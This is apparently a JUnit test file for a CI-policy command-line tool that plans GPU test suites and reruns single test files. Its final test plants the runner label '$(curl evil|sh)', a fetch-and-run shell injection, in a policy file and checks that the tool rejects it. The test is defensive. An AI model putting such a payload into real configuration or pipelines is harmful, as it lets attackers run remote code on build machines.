package dev.cipolicy.cli;

import static dev.cipolicy.cli.CliTestSupport.POLICY;
import static dev.cipolicy.cli.CliTestSupport.REGISTRATIONS;
import static dev.cipolicy.cli.CliTestSupport.run;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.cipolicy.cli.CliTestSupport.Result;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code ci-policy plan-suite} and {@code ci-policy file-run}. */
class PlanSuiteAndFileRunCommandTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  @TempDir
  Path tmp;

  @Test
  void planSuiteJsonHasTheDocumentedFields() throws Exception {
    Result r = run("plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw", "cuda", "--suite",
        "stage-c-4-gpu-h200", "--cadence", "weekly", "--json");
    assertThat(r.code()).isZero();
    JsonNode j = JSON.readTree(r.out());
    assertThat(j.get("enabled").toString())
        .isEqualTo("[\"tests/e2e/test_fsdp_short.py\",\"tests/e2e/test_lora.py\",\"tests/e2e/test_eval.py\"]");
    assertThat(j.get("skipped").toString())
        .isEqualTo("[{\"file\":\"tests/e2e/test_replay.py\",\"reason\":\"flaky replay buffer, tracked in #2511\"}]");
    assertThat(j.get("continue_on_error").asBoolean()).isTrue();
    assertThat(j.get("est_total_seconds").asDouble()).isEqualTo(2000.0);
    assertThat(j.get("timeouts").get("tests/e2e/test_lora.py").asLong()).isEqualTo(1800);
    assertThat(j.get("max_parallel").asInt()).isEqualTo(1);
  }

  @Test
  void planSuiteAcceptsTheRawLabelsOutputAsOneArgument() throws Exception {
    Result r = run("plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw", "cuda", "--suite",
        "stage-c-4-gpu-h200", "--labels", "run-ci-lora bypass-fastfail", "--json");
    JsonNode j = JSON.readTree(r.out());
    assertThat(j.get("enabled").toString()).isEqualTo("[\"tests/e2e/test_lora.py\"]");
    assertThat(j.get("continue_on_error").asBoolean()).isTrue();
  }

  @Test
  void planSuiteShardsAndMatchesAllLabels() throws Exception {
    Result r = run("plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw", "cuda", "--suite",
        "stage-c-4-gpu-h200", "--match-all-labels", "--partition-id", "1", "--partition-size", "3", "--json");
    JsonNode j = JSON.readTree(r.out());
    assertThat(j.get("enabled").toString()).isEqualTo("[\"tests/e2e/test_lora.py\"]");
    assertThat(j.get("shard").toString()).isEqualTo("{\"id\":1,\"size\":3}");
  }

  @Test
  void zeroSelectedTestsIsASuccess() {
    Result r = run("plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw", "cuda", "--suite",
        "stage-c-8-gpu-b200");
    assertThat(r.code()).isZero();
    assertThat(r.out()).contains("No tests matched stage-c-8-gpu-b200 (cuda) under cadence regular; nothing to run");
  }

  @Test
  void unknownSuiteIsAnError() {
    Result r = run("plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw", "rocm", "--suite",
        "stage-c-8-gpu-b200");
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.err()).isEqualTo("::error::Unknown suite stage-c-8-gpu-b200 for backend rocm\n");
  }

  @Test
  void partitionFlagsGoTogether() {
    Result r = run("plan-suite", "--policy", POLICY, "--registrations", REGISTRATIONS, "--hw", "cuda", "--suite",
        "stage-c-4-gpu-h200", "--partition-id", "1");
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.err()).isEqualTo("::error::--partition-id and --partition-size go together\n");
  }

  @Test
  void badRegistrationsNameTheFileAndField() throws Exception {
    Path bad = tmp.resolve("regs.yaml");
    Files.writeString(bad, "- {file: tests/e2e/test_a.py, backend: cuda, suite: stage-c-4-gpu-h200, est_time: 5}\n");
    Result r = run("plan-suite", "--policy", POLICY, "--registrations", bad.toString(), "--hw", "cuda", "--suite",
        "stage-c-4-gpu-h200");
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.err()).isEqualTo("::error file=" + Console.escapeProperty(bad.toString()) + ",line=1,col=3,"
        + "title=registrations::test file 'tests/e2e/test_a.py': a cuda (GPU) registration needs at least one label\n");
  }

  @Test
  void fileRunWritesTheOutputsAndJson() throws Exception {
    Path out = tmp.resolve("out");
    Result r = run("file-run", "--policy", POLICY, "--registrations", REGISTRATIONS, "--test-file",
        "tests/e2e/test_lora.py", "--image-tag", "pr-7", "--github-output", out.toString(), "--json");
    assertThat(r.code()).isZero();
    JsonNode j = JSON.readTree(r.out());
    assertThat(j.get("hw").asText()).isEqualTo("cuda");
    assertThat(j.get("runs_on").toString()).isEqualTo("[\"h200\",\"4gpu\"]");
    assertThat(j.get("container_image").asText()).isEqualTo("radixark/miles:pr-7");
    assertThat(j.get("timeout_seconds").asLong()).isEqualTo(1800);
    assertThat(Files.readString(out)).isEqualTo("hw=cuda\nsuite=stage-c-4-gpu-h200\nruns_on=[\"h200\",\"4gpu\"]\n"
        + "container_image=radixark/miles:pr-7\ntimeout_seconds=1800\n");
  }

  @Test
  void aRejectedRerunIsAnErrorAndWritesNothing() throws Exception {
    Path out = tmp.resolve("out");
    Result r = run("file-run", "--policy", POLICY, "--registrations", REGISTRATIONS, "--test-file",
        "tests/e2e/test_replay.py", "--github-output", out.toString());
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.err()).isEqualTo("::error::tests/e2e/test_replay.py is disabled: flaky replay buffer, tracked in #2511\n");
    assertThat(out).doesNotExist();
  }

  @Test
  void fileRunFromACommentChecksPermission() {
    Result r = run("file-run", "--policy", POLICY, "--registrations", REGISTRATIONS, "--comment",
        "/rerun-test tests/e2e/test_lora.py", "--permission", "read", "--pr-number", "9");
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.err()).isEqualTo("::error::/rerun-test requires write access to the repository; the commenter has 'read'\n");
    Result ok = run("file-run", "--policy", POLICY, "--registrations", REGISTRATIONS, "--comment",
        "/rerun-test tests/e2e/test_lora.py", "--permission", "write", "--pr-number", "9");
    assertThat(ok.code()).isZero();
    assertThat(ok.out()).startsWith("Rerun tests/e2e/test_lora.py: hw=cuda suite=stage-c-4-gpu-h200");
  }

  @Test
  void fileRunNeedsExactlyOneTarget() {
    assertThat(run("file-run", "--policy", POLICY, "--registrations", REGISTRATIONS).code()).isEqualTo(2);
  }

  @Test
  void aShellCommandAsRunnerLabelIsRejectedAtLoadAndNeverEmitted() throws Exception {
    String policy = Files.readString(CliTestSupport.REPO.resolve(POLICY))
        .replace("runner_labels: [h200, 4gpu]", "runner_labels: [h200, 4gpu, \"$(curl evil|sh)\"]");
    assertThat(policy).contains("$(curl evil|sh)");
    Path file = tmp.resolve("evil.yaml");
    Files.writeString(file, policy);
    Path output = tmp.resolve("output");
    Result r = run("file-run", "--policy", file.toString(), "--registrations", REGISTRATIONS, "--test-file",
        "tests/e2e/test_lora.py", "--github-output", output.toString());
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.out()).isEmpty();
    String before = policy.substring(0, policy.indexOf("\"$(curl evil|sh)\""));
    int line = before.split("\n", -1).length;
    int col = before.length() - before.lastIndexOf('\n');
    assertThat(r.err()).isEqualTo("::error file=" + Console.escapeProperty(file.toString()) + ",line=" + line
        + ",col=" + col + ","
        + "title=suites::runner label '$(curl evil|sh)' is not shell-safe; expected 1 to 64 characters matching"
        + " [A-Za-z0-9][A-Za-z0-9._-]{0,63}\n");
    assertThat(output).doesNotExist();
  }
}
